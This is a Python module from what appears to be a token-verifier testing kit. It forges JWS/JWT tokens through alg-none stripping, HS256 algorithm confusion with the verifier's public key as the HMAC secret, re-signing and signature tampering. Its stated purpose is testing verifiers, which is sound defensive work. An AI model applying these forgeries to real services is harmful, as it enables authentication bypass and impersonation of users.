"""Token surgery for the attack pack: what an attacker does to a captured token.

Every forgery starts from a good token the kit issued, so it differs from an accepted
token in exactly one respect: the endpoint can only refuse it for that reason.
Advanced and easy to misuse; it exists to test verifiers, never to make real tokens.
"""

from __future__ import annotations

import hashlib
import hmac
from dataclasses import dataclass
from typing import Any

import orjson

from .._core.binding import SJTI_CLAIM, UserKey, compute_sjti
from .._core.codec import b64url_decode, b64url_encode, dumps, loads_object
from .._core.jws import sign_compact
from .._core.keys import SigningKey, VerifyingKey
from ..errors import ConfigurationError

__all__ = [
    "Parts",
    "alg_none",
    "hmac_with_public_key",
    "public_key_secrets",
    "reseal",
    "resign",
    "signed_by",
    "split",
    "tamper_signature",
]


@dataclass(frozen=True, slots=True)
class Parts:
    """A compact JWS taken apart: the header segment as sent, and what it decodes to."""

    header_segment: bytes
    header: dict[str, Any]
    claims: dict[str, Any]
    signature: bytes


def split(token: str) -> Parts:
    """Decode a token the kit issued (no verification: the kit made it)."""
    segments = token.encode("ascii").split(b".")
    if len(segments) != 3:
        raise ConfigurationError("not a compact JWS")
    header_segment, payload, signature = segments
    return Parts(
        header_segment,
        loads_object(b64url_decode(header_segment)),
        loads_object(b64url_decode(payload)),
        b64url_decode(signature),
    )


def _segment(value: dict[str, Any]) -> bytes:
    return b64url_encode(dumps(value))


def reseal(claims: dict[str, Any], user_key: UserKey) -> dict[str, Any]:
    """The claims with ``sjti`` recomputed under ``user_key`` (what the issuer would do)."""
    return {**claims, SJTI_CLAIM: compute_sjti(claims, user_key)}


def resign(header_segment: bytes, claims: dict[str, Any], key: SigningKey) -> str:
    """Sign ``claims`` with ``key`` under the given header (what the app key's holder can)."""
    return sign_compact(header_segment, dumps(claims), key).decode("ascii")


def signed_by(parts: Parts, key: SigningKey) -> str:
    """The same header (with ``key``'s ``kid`` and ``alg``) and claims, signed by ``key``."""
    header = {**parts.header, "alg": key.alg, "kid": key.kid}
    return resign(_segment(header), parts.claims, key)


def alg_none(parts: Parts, alg: str = "none") -> str:
    """The claims under an unsigned header (RFC 7519 §6 "unsecured JWT")."""
    header = {**parts.header, "alg": alg}
    return (_segment(header) + b"." + _segment(parts.claims) + b".").decode("ascii")


def public_key_secrets(key: VerifyingKey) -> list[bytes]:
    """The forms a public key takes that a confused verifier may use as an HMAC secret:
    SubjectPublicKeyInfo PEM (with and without its final newline), DER, the JWK JSON."""
    from cryptography.hazmat.primitives import serialization

    jwk = key.to_jwk()  # symmetric keys refuse: there is no public key to confuse
    public = _public_key_from_jwk(jwk)
    pem = public.public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    der = public.public_bytes(
        serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    return [pem, pem.rstrip(b"\n"), der, orjson.dumps(jwk)]


def _public_key_from_jwk(jwk: dict[str, Any]) -> Any:
    from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa

    def number(name: str) -> int:
        return int.from_bytes(b64url_decode(jwk[name]), "big")

    kty = jwk["kty"]
    if kty == "RSA":
        return rsa.RSAPublicNumbers(number("e"), number("n")).public_key()
    if kty == "EC":
        curves = {"P-256": ec.SECP256R1(), "P-384": ec.SECP384R1(), "P-521": ec.SECP521R1()}
        curve = curves[jwk["crv"]]
        return ec.EllipticCurvePublicNumbers(number("x"), number("y"), curve).public_key()
    return ed25519.Ed25519PublicKey.from_public_bytes(b64url_decode(jwk["x"]))


def hmac_with_public_key(parts: Parts, secret: bytes) -> str:
    """The claims under ``alg: HS256`` (same ``kid``), MACed with ``secret``: the classic
    algorithm confusion, where the verifier's public key becomes an HMAC key."""
    header = _segment({**parts.header, "alg": "HS256"})
    signing_input = header + b"." + _segment(parts.claims)
    mac = hmac.new(secret, signing_input, hashlib.sha256).digest()
    return (signing_input + b"." + b64url_encode(mac)).decode("ascii")


def tamper_signature(token: str) -> str:
    """The token with one bit of its signature flipped (the encoding stays canonical)."""
    head, _, signature = token.rpartition(".")
    raw = bytearray(b64url_decode(signature))
    raw[len(raw) // 2] ^= 0x01
    return head + "." + b64url_encode(bytes(raw)).decode("ascii")
